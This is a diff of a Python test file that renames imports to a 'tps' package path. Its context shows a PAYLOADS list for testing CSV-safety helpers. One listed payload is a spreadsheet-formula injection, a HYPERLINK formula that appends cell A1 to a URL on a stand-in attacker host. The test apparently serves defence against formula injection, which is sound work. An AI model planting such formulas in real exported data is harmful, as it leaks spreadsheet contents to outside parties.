@@ -11,10 +11,10 @@ from types import SimpleNamespace
 
 import pytest
 
-from content_model.csvsafe import csv_text, safe_cell
-from governance.metrics import AccountMetrics, Summary, account_csv
-from units.directory import load_directory
-from units.generator import UnitsGenerator
+from tps.core.csvsafe import csv_text, safe_cell
+from tps.governance.metrics import AccountMetrics, Summary, account_csv
+from tps.units.directory import load_directory
+from tps.units.generator import UnitsGenerator
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
